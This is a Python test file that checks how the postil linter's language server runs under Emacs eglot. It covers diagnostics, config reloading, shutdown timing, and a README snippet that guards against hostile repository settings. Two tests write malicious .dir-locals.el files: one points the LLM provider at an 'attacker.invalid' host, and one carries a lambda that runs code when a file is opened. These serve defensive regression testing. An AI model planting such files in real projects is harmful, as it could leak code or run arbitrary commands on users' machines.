"""A real Emacs: Emacs 28 in batch mode with eglot (Debian `emacs-nox` + `elpa-eglot`) starts
`postil serve` for a Python file and flymake shows postil's diagnostic.

Batch Emacs has no command loop, so flymake's deferred start never fires by itself; the
script calls `(flymake-start nil t)` while it waits (see emacs/eglot-diagnostics.el).
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
from shadowing import clean_env, fired, plant

from postil import trust_store

pytestmark = pytest.mark.slow  # real editors

HERE = Path(__file__).parent
REPO = HERE.parent.parent
sys.path.insert(0, str(REPO / "tests" / "analyzers" / "llm"))
DEMO = "def check(value):\n    if value == None:\n        return 0\n    return value\n"


def emacs_and_project(project: Path) -> str:
    """Emacs's path (the test fails without it) and ``project`` made as a git work tree (eglot's root)."""
    emacs = shutil.which("emacs")
    if emacs is None:
        pytest.fail("emacs is needed: apt-get install emacs-nox elpa-eglot")
    project.mkdir()
    subprocess.run(["git", "init", "-q", str(project)], check=True)
    return emacs



def run_eglot(emacs: str, project: Path, tmp_path: Path, **extra: str) -> tuple[Path, subprocess.CompletedProcess]:
    """Emacs with eglot and `postil serve` (this tree's) on ``project``'s demo.py, run to its end
    (emacs/eglot-diagnostics.el; ``extra``: its other variables): the directory it wrote its
    results in, and the run. Asserted: it exited 0 and wrote no error.json."""
    demo = project / "demo.py"
    demo.write_text(DEMO)
    out = tmp_path / "out"
    out.mkdir()
    env = dict(os.environ, POSTIL_TEST_OUT=str(out), POSTIL_TEST_FILE=str(demo),
               POSTIL_TEST_CMD=json.dumps([sys.executable, "-m", "postil", "serve"]),
               PYTHONPATH=os.pathsep.join([str(REPO), os.environ.get("PYTHONPATH", "")]), **extra)
    # The script has its own deadlines (60 s a wait) and always exits; this timeout is a backstop.
    proc = subprocess.run([emacs, "--batch", "-l", str(HERE / "emacs" / "eglot-diagnostics.el")],
                          cwd=project, env=env, capture_output=True, text=True, timeout=180)
    assert proc.returncode == 0, proc.stderr[-2000:]
    assert not (out / "error.json").exists(), (out / "error.json").read_text()
    return out, proc


def test_eglot_receives_postil_diagnostics(tmp_path):
    project = tmp_path / "demo"
    out, _ = run_eglot(emacs_and_project(project), project, tmp_path)
    diagnostics = json.loads((out / "diagnostics.json").read_text())
    assert [(d["line"], d["column"], d["type"]) for d in diagnostics] == [(2, 7, "eglot-warning")], diagnostics
    assert diagnostics[0]["text"].startswith("postil [python/correctness/none-equality-comparison]: Comparison to `None`")


@pytest.mark.slow  # a real Emacs and server
def test_eglot_follows_a_config_changed_on_disk_without_watching_files(tmp_path):
    """Issue 34: a config changed outside the editor (a `git checkout`, another editor) is used
    from the next keystroke on, with eglot watching no file for the server (it is the server
    that notices): the warning becomes an error as the new .postil.toml says."""
    project = tmp_path / "demo"
    emacs = emacs_and_project(project)
    (project / ".postil.toml").write_text("ignore = []\n")  # read by the server at the first check
    out, _ = run_eglot(emacs, project, tmp_path,
                       POSTIL_TEST_CONFIG_ON_DISK='[severity]\n"python/correctness/none-equality-comparison" = "error"\n')
    before = json.loads((out / "diagnostics.json").read_text())
    assert [(d["line"], d["column"], d["type"]) for d in before] == [(2, 7, "eglot-warning")], before
    after = json.loads((out / "after.json").read_text())
    assert [(d["line"], d["column"], d["type"]) for d in after] == [(2, 7, "eglot-error")], after


def test_eglot_shutdown_during_indexing_is_quick_and_clean(tmp_path, fake):
    project = tmp_path / "demo"
    emacs = emacs_and_project(project)
    for i in range(300):  # enough for the background index to be busy at shutdown
        (project / f"m{i}.py").write_text(f"def f{i}(x):\n    return x + {i}\n" * 20)
    # LLM review on (the index is built only for a reader): a trusted config naming the fake provider
    (project / ".postil.toml").write_text(f'[llm]\nprovider = "openai-compatible"\nbase-url = "{fake.openai_url}"\n'
                                          'model = "test-model"\n')
    trust_store.record([project / ".postil.toml"])
    out, proc = run_eglot(emacs, project, tmp_path, POSTIL_TEST_SHUTDOWN="1")
    shutdown = json.loads((out / "shutdown.json").read_text())
    # eglot 1.9 waits 1.5 s for the shutdown answer (error.json when it times out), then sends
    # exit and deletes the process at once: the whole shutdown must be inside that (~0.12 s at load 4).
    assert shutdown["seconds"] < 1.5, shutdown
    assert "closed file" not in proc.stderr, proc.stderr[-2000:]


def readme_snippet() -> str:
    text = (REPO / "editors" / "README.md").read_text()
    section = text[text.index("## Emacs (eglot)"):]
    return section[section.index("```elisp\n") + len("```elisp\n"):section.index("```\n", section.index("```elisp"))]


DIR_LOCALS = '((nil . ((eglot-workspace-configuration . (:postil (:llm (:provider "openai-compatible" '\
             ':baseUrl "http://attacker.invalid/v1")))))))\n'


@pytest.mark.parametrize("guarded", [True, False], ids=["readme-snippet", "without-the-safe-local-variable-guard"])
def test_readme_snippet_starts_the_console_script_and_keeps_dir_locals_out(tmp_path, guarded):
    project = tmp_path / "clone"
    emacs = emacs_and_project(project)
    markers = tmp_path / "markers"
    plant(project, markers)  # json.py, pygls/, openai.py, postil/ ... in the project
    (project / ".dir-locals.el").write_text(DIR_LOCALS)  # the repository names an LLM endpoint
    demo = project / "demo.py"
    demo.write_text(DEMO)
    snippet = readme_snippet()
    assert '"postil" "serve"' in snippet
    if not guarded:  # control: eglot's own safe-local-variable predicate lets the project in
        snippet = snippet[:snippet.index("  ;; eglot lets")] + ")\n" + snippet[snippet.index(";; workspace/configuration"):]
    init = tmp_path / "init.el"
    init.write_text(snippet)
    out = tmp_path / "out"
    out.mkdir()
    env = clean_env(POSTIL_TEST_OUT=str(out), POSTIL_TEST_FILE=str(demo), POSTIL_TEST_INIT=str(init),
                    HOME=str(tmp_path))
    proc = subprocess.run([emacs, "--batch", "-l", str(HERE / "emacs" / "eglot-diagnostics.el")],
                          cwd=project, env=env, capture_output=True, text=True, timeout=120, stdin=subprocess.DEVNULL)
    assert proc.returncode == 0, proc.stderr[-2000:]
    assert not (out / "error.json").exists(), (out / "error.json").read_text()
    workspace = json.loads((out / "config.json").read_text())["workspace"]
    if guarded:
        assert workspace == '(:postil (:run "onSave" :llm (:provider "off")))', workspace
        diagnostics = json.loads((out / "diagnostics.json").read_text())  # postil's console script ran
        assert [(d["line"], d["column"]) for d in diagnostics] == [(2, 7)], diagnostics
        assert fired(markers) == []
    else:
        assert "attacker.invalid" in workspace


def dir_locals_running(marker: Path) -> str:
    """A `.dir-locals.el` whose eglot-workspace-configuration is a function (eglot calls one with
    the server to get the settings): it writes ``marker``, as any program a repository chose."""
    return ('((nil . ((eglot-workspace-configuration . (lambda (&rest _) (with-temp-file '
            f'{json.dumps(str(marker))} (insert "ran")) (list :postil (list :run "onSave")))))))\n')


@pytest.mark.parametrize("guarded", [True, False], ids=["readme-snippet", "eglot-own-predicate"])
def test_dir_locals_cannot_run_code_through_the_workspace_configuration(tmp_path, guarded):
    """eglot calls eglot-workspace-configuration when it is a function, and a lambda is a list:
    the README's safe-local-variable predicate (like eglot's own `listp`) let a repository's
    `.dir-locals.el` run code of its choosing when the user opened a file. Now it is refused."""
    project = tmp_path / "clone"
    emacs = emacs_and_project(project)
    marker = tmp_path / "ran-by-the-repository"
    (project / ".dir-locals.el").write_text(dir_locals_running(marker))
    demo = project / "demo.py"
    demo.write_text(DEMO)
    snippet = readme_snippet()
    if not guarded:  # control: eglot's own predicate (`listp`) lets the function in
        snippet = snippet[:snippet.index("  ;; eglot lets")] + ")\n" + snippet[snippet.index(";; workspace/configuration"):]
    snippet = snippet.replace('("postil" "serve"', "(" + " ".join(json.dumps(a) for a in [sys.executable, "-m", "postil", "serve"]))
    init = tmp_path / "init.el"
    init.write_text(snippet)
    out = tmp_path / "out"
    out.mkdir()
    env = dict(os.environ, POSTIL_TEST_OUT=str(out), POSTIL_TEST_FILE=str(demo), POSTIL_TEST_INIT=str(init),
               HOME=str(tmp_path), PYTHONPATH=os.pathsep.join([str(REPO), os.environ.get("PYTHONPATH", "")]))
    proc = subprocess.run([emacs, "--batch", "-l", str(HERE / "emacs" / "eglot-diagnostics.el")],
                          cwd=project, env=env, capture_output=True, text=True, timeout=120, stdin=subprocess.DEVNULL)
    assert proc.returncode == 0, proc.stderr[-2000:]
    if guarded:
        assert not marker.exists(), "the repository's .dir-locals.el ran code"
        workspace = json.loads((out / "config.json").read_text())["workspace"]
        assert workspace == '(:postil (:run "onSave" :llm (:provider "off")))', workspace
    else:
        assert marker.read_text() == "ran"
